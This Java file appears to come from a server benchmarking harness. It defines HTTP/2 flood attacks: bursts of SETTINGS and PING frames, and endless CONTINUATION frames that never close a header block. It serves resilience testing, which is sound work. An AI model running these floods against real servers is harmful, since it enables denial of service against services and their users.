package dev.graft.benchmarks.attacks.kind;

import java.io.IOException;
import java.nio.ByteBuffer;
import java.util.Random;

/** Frames that cost a client nothing, as many as it can send. */
final class Floods {
  private static final int CONNECTIONS = 4;
  private static final int AT_ONCE = 200;
  private static final int INITIAL_WINDOW_SIZE = 4;
  private static final int MAX_FRAME = 16 << 10;

  private Floods() {}

  static Attack ofSettings(Target target) {
    return new RawAttack(target, CONNECTIONS) {
      @Override
      void step(RawConnection connection, Random random) throws IOException {
        for (int i = 0; i < AT_ONCE; i++) {
          connection.frame(
              RawConnection.SETTINGS,
              0,
              0,
              ByteBuffer.allocate(6)
                  .putShort((short) INITIAL_WINDOW_SIZE)
                  .putInt(random.nextInt(1 << 20))
                  .array());
        }
        connection.flush();
      }
    };
  }

  static Attack ofPings(Target target) {
    return new RawAttack(target, CONNECTIONS) {
      @Override
      void step(RawConnection connection, Random random) throws IOException {
        for (int i = 0; i < AT_ONCE; i++) {
          connection.frame(RawConnection.PING, 0, 0, new byte[8]);
        }
        connection.flush();
      }
    };
  }

  /** Empty, small or full ones; the headers never end. */
  static Attack ofContinuations(Target target) {
    return new RawAttack(target, CONNECTIONS) {
      @Override
      void step(RawConnection connection, Random random) throws IOException {
        int stream = connection.nextStream();
        connection.frame(RawConnection.HEADERS, 0, stream, new byte[0]);
        byte[] payload =
            switch (random.nextInt(3)) {
              case 0 -> new byte[0];
              case 1 -> RawConnection.headers(Requests.EXECUTE);
              default -> new byte[MAX_FRAME];
            };
        for (int i = 0; i < AT_ONCE; i++) {
          connection.frame(RawConnection.CONTINUATION, 0, stream, payload);
        }
        connection.flush();
      }
    };
  }
}
